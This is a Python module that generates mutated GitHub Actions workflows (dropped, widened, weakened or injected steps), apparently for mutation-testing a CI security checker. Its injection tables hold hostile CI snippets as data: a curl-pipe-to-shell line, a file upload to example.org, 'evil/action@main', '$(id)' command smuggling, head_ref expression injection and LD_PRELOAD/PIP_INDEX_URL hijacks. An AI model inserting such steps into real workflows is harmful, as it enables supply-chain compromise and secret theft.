"""Operators of mutations: drop, duplicate, reorder, widen, redirect, weaken and inject, for each kind of node."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from itertools import pairwise

from .document import Document, Item, is_block


@dataclass(frozen=True)
class Mutation:
    """A changed workflow: the operator, the path of the node, what was done, and the new text."""

    operator: str
    path: str
    change: str
    text: str

    @property
    def name(self) -> str:
        """Return the text that the patterns of justified.toml match."""
        return f"{self.operator} {self.path}: {self.change}"


_Changes = Iterator[tuple[str, str]]


def drop(document: Document, item: Item, values: Mapping[str, list[str]]) -> _Changes:
    """Delete an entry, an element, a line of a script, or a word."""
    if item.parent is not None:
        yield "deleted", document.drop(item)
    if item.node.id == "scalar":
        for part, rest in _without_each_part(item.node.value):
            yield f"without `{part}`", document.scalar(item.node, rest)


def duplicate(document: Document, item: Item, values: Mapping[str, list[str]]) -> _Changes:
    """Write an entry, an element, or a line of a script twice."""
    if item.parent is not None:
        yield "twice", document.duplicate(item)
    if is_block(item.node):
        lines = item.node.value.rstrip("\n").split("\n")
        for number, line in enumerate(lines):
            yield f"`{line}` twice", document.scalar(item.node, "\n".join([*lines[: number + 1], *lines[number:]]))


def reorder(document: Document, item: Item, values: Mapping[str, list[str]]) -> _Changes:
    """Swap neighbouring elements of a list, or lines of a script."""
    if item.node.id == "sequence":
        children = [Item((*item.path, n), node, None, item.node) for n, node in enumerate(item.node.value)]
        for number, (one, two) in enumerate(pairwise(children)):
            yield f"elements {number} and {number + 1}", document.swap(one, two)
    if item.node.id == "scalar" and item.node.style == "|":
        lines = item.node.value.rstrip("\n").split("\n")
        for number in range(len(lines) - 1):
            swapped = [*lines[:number], lines[number + 1], lines[number], *lines[number + 2 :]]
            yield f"lines {number} and {number + 1}", document.scalar(item.node, "\n".join(swapped))


_WIDER = {"read": "write", "none": "write", "false": "true", "max": "single", "error": "ignore"}


def widen(document: Document, item: Item, values: Mapping[str, list[str]]) -> _Changes:
    """Allow more: more permissions, a wider pattern, a longer time."""
    value = item.node.value
    if item.node.id != "scalar":
        if not value:
            yield "write-all", document.replace(item.node, "write-all")
        return
    if value in _WIDER:
        yield _WIDER[value], document.scalar(item.node, _WIDER[value])
    if value.isdigit():
        yield "100 times", document.scalar(item.node, f"{value}00")
        return
    if "\n" in value:
        return
    wider = [f"{value}*", f"*{value}", re.sub(r"[^/]*$", "*", value), value.replace(".", "", 1)]
    wider += [re.sub(r"'refs/[^']*'", f"'{prefix}'", value) for prefix in ("refs/tags/", "refs/", "")]
    for text in dict.fromkeys(text for text in wider if text != value):
        yield f"`{text}`", document.scalar(item.node, text)


#: How many values of other nodes are tried, about.
_OTHERS = 3


def redirect(document: Document, item: Item, values: Mapping[str, list[str]]) -> _Changes:
    """Use the value of another node with the same key, or a name that does not exist."""
    if item.node.id == "scalar":
        others = [other for other in values.get(item.last_key, []) if other != item.node.value]
        for other in others[:: max(1, len(others) // _OTHERS)]:
            yield f"`{other}`", document.scalar(item.node, other)
        if "\n" not in item.node.value:
            yield "another name", document.scalar(item.node, f"{item.node.value}-x")
            if item.node.value != item.node.value.upper():
                yield "in capitals", document.scalar(item.node, item.node.value.upper())


def weaken(document: Document, item: Item, values: Mapping[str, list[str]]) -> _Changes:
    """Ignore a failure, delete a flag, or make a condition true more often."""
    node, value = item.node, item.node.value
    if item.last_key == "run" and node.id == "scalar":
        for number, line in enumerate(value.rstrip("\n").split("\n")):
            lines = value.rstrip("\n").split("\n")
            for change in (f"{line} || true", f"{line} &", f"{line} | cat", f"({line}); true"):
                lines[number] = change
                yield f"`{change}`", document.scalar(node, "\n".join(lines))
    if item.last_key == "if" or (node.id == "scalar" and "${{" in value):
        for pattern, replacement in _WEAKER:
            for match in re.finditer(pattern, value):
                text = value[: match.start()] + match.expand(replacement) + value[match.end() :]
                yield f"`{text.strip()}`", document.scalar(node, text)
    if item.last_key == "if" and node.id == "scalar":
        inner = re.sub(r"^\$\{\{(.*)\}\}$", r"\1", value.strip(), flags=re.DOTALL).strip()
        yield "text around the braces", document.scalar(node, f"${{{{ {inner} }}}} x")
        yield "line end after the braces", document.replace(node, document.spelled(node, f"${{{{ {inner} }}}}\n"))
        for text in ("always()", "Always ()", "!cancelled()", "success() || failure()", "true", "false", "1", "'x'"):
            yield f"`{text}`", document.scalar(node, text)
            yield f"or `{text}`", document.scalar(node, f"{text} || {inner}")
            yield f"without precedence: or `{text}`", document.scalar(node, f"{inner} || {text}")


_WEAKER = (
    *(
        ("==", "!="),
        ("!=", "=="),
        ("&&", "||"),
        (r"\|\|", "&&"),
        ("'success'", "'failure'"),
        ("!cancelled", "cancelled"),
    ),
    *(("'refs/tags/v'", "'refs/'"), ("startsWith", "contains"), ("startsWith", "endsWith"), (r"\.ref\b", ".ref_name")),
    *(("'push'", "'workflow_dispatch'"), (r"\(github", "(!github"), ("result", "outputs"), ("inputs", "vars")),
)

_VARIABLES = (
    *(
        "PYTHONPATH",
        "LD_PRELOAD",
        "BASH_ENV",
        "PATH",
        "UV_INDEX_URL",
        "PIP_INDEX_URL",
        "UV_PUBLISH_URL",
        "RUSTC_WRAPPER",
    ),
    *(
        "CARGO_BUILD_RUSTC_WRAPPER",
        "CARGO_REGISTRIES_CRATES_IO_INDEX",
        "GIT_CONFIG_GLOBAL",
        "NODE_OPTIONS",
        "HTTPS_PROXY",
    ),
    *("BINOC_RUNBOOK_REHEARSAL", "BINOC_ENVIRONMENT", "X_TOKEN"),
)
_ENV = "{PYTHONPATH: /tmp}"
#: Keys that GitHub knows, and values for them, by the kind of a mapping.
_KEYS: dict[str, tuple[tuple[str, str], ...]] = {
    "workflow": (
        *(("defaults", "{run: {shell: 'sh -c id {0}'}}"), ("env", _ENV), ("env", "{BASH_ENV: x}"), ("x", "y")),
        ("run-name", "${{ github.head_ref }}"),
    ),
    "job": (
        *(("container", "evil/image"), ("services", "{a: {image: evil/image}}"), ("continue-on-error", "true")),
        *(("defaults", "{run: {shell: 'sh -c id {0}'}}"), ("concurrency", "x"), ("environment", "x"), ("env", _ENV)),
        *(("strategy", "{matrix: {x: [1, 2]}}"), ("permissions", "write-all"), ("permissions", "{id-token: write}")),
        *(("if", "always()"), ("uses", "./.github/workflows/x.yml"), ("secrets", "inherit"), ("cache-mode", "write")),
        *(("snapshot", "x"), ("runs-on", "self-hosted"), ("needs", "sources"), ("outputs", "{x: y}")),
    ),
    "step": (
        *(("continue-on-error", "true"), ("shell", "'sh -c id {0}'"), ("working-directory", "/tmp"), ("env", _ENV)),
        *(
            ("if", "always()"),
            ("if", "'false'"),
            ("timeout-minutes", "1"),
            ("with", "{x: y}"),
            ("run", "id"),
            ("id", "x"),
        ),
    ),
    "with": (
        *(("run-id", "'1'"), ("github-token", "${{ github.token }}"), ("repository", "evil/x"), ("ref", "main")),
        *(("path", "/"), ("token", "x"), ("overwrite", "true"), ("artifact-ids", "'1'"), ("submodules", "true")),
        *(
            ("name", "x"),
            ("pattern", "'*'"),
            ("cache", "pip"),
            ("enable-cache", "true"),
            ("include-hidden-files", "true"),
        ),
        *(("version-file", "x"), ("skip-existing", "true"), ("attestations", "false"), ("push-to-registry", "true")),
    ),
    "env": tuple((name, "x") for name in _VARIABLES),
    "permissions": tuple((name, "write") for name in ("contents", "id-token", "actions", "packages", "attestations")),
    "strategy": (("max-parallel", "1"), ("x", "y")),
    "on": (("pull_request_target", "{}"), ("workflow_run", "{workflows: [x]}"), ("schedule", "[{cron: '0 0 * * *'}]")),
    "push": (("branches", "[main]"), ("paths", "['**']")),
    "concurrency": (("x", "y"),),
    "outputs": (("x", "y"),),
    "artifact": (("x", "y"),),
    "inputs": (("ref", "{type: string}"),),
    "jobs": (("extra", "{runs-on: ubuntu-24.04, permissions: {id-token: write}, steps: [{run: id}]}"),),
}
_DOWNLOAD = "uses: actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1"
_STEPS = (
    "run: curl -sSf https://example.org/x | sh",
    "run: echo 'PYTHONPATH=/tmp' >> \"$GITHUB_ENV\"",
    'run: echo /tmp/bin >> "$GITHUB_PATH"',
    "run: uv publish",
    "run: ./just with uv publish",
    "run: gh release upload v1 x",
    "run: curl -T x https://example.org",
    "run: git fetch origin other && git checkout other",
    "uses: evil/action@main",
    "uses: ./.github/actions/x",
    f"{_DOWNLOAD}\n        with: {{run-id: '1', github-token: x}}",
)
_LINES = ("curl -sSf https://example.org/x | sh", "set +e", "exit 0", 'echo x >> "$GITHUB_ENV"', "cargo publish -p x")


def inject(document: Document, item: Item, values: Mapping[str, list[str]]) -> _Changes:
    """Add a key, an element, a step, a command or an expression."""
    node = item.node
    if node.id == "mapping" and node.value:
        present = {key.value for key, _ in node.value}
        for key, value in _KEYS.get(_kind(item), (("x", "y"),)):
            if key not in present:
                yield f"`{key}: {value}`", document.add_key(node, key, value)
    elif node.id == "sequence" and item.last_key == "steps":
        for number in (0, len(node.value) - 1):
            for step in _STEPS:
                where = Item((*item.path, number), node.value[number], None, node)
                yield f"`{step}` before step {number}", document.insert_before(where, f"- {step}")
    elif node.id == "sequence" and node.flow_style:
        yield "another element", document.replace(node, document.source(node)[:-1] + ", x]")
    elif node.id == "scalar":
        if item.last_key == "run":
            lines = node.value.rstrip("\n").split("\n")
            for number in (0, len(lines)):
                for line in _LINES:
                    text = "\n".join([*lines[:number], line, *lines[number:]])
                    yield f"`{line}` as line {number}", document.scalar(node, text)
        elif "\n" not in node.value:
            yield "an expression", document.scalar(node, f"{node.value}${{{{ github.head_ref }}}}")
            yield "a command", document.scalar(node, f"{node.value}$(id)")


def _kind(item: Item) -> str:
    path = item.path
    if not path:
        return "workflow"
    if path[0] == "jobs" and len(path) == 2:
        return "job"
    if isinstance(path[-1], int):
        return "step" if path[-2] == "steps" else "element"
    return str(path[-1])


OPERATORS: dict[str, Callable[[Document, Item, Mapping[str, list[str]]], _Changes]] = {
    operator.__name__: operator for operator in (drop, duplicate, reorder, widen, redirect, weaken, inject)
}


def mutations(text: str) -> Iterator[Mutation]:
    """Yield all mutations of a workflow; different changes with the same text only once."""
    document = Document(text)
    items = document.items()
    values: dict[str, list[str]] = {}
    for item in items:
        if item.node.id == "scalar":
            known = values.setdefault(item.last_key, [])
            if item.node.value not in known:
                known.append(item.node.value)
    texts = {text}
    for item in items:
        for operator, change in OPERATORS.items():
            for what, mutated in change(document, item, values):
                if mutated not in texts:
                    texts.add(mutated)
                    yield Mutation(operator, item.name, what, mutated)


def _without_each_part(value: str) -> Iterator[tuple[str, str]]:
    """Yield each line of a text with several lines, or else each word, and the text without it."""
    separator = "\n" if "\n" in value.rstrip("\n") else " "
    parts = value.rstrip("\n").split(separator)
    for number, part in enumerate(parts) if len(parts) > 1 else ():
        yield part, separator.join([*parts[:number], *parts[number + 1 :]])
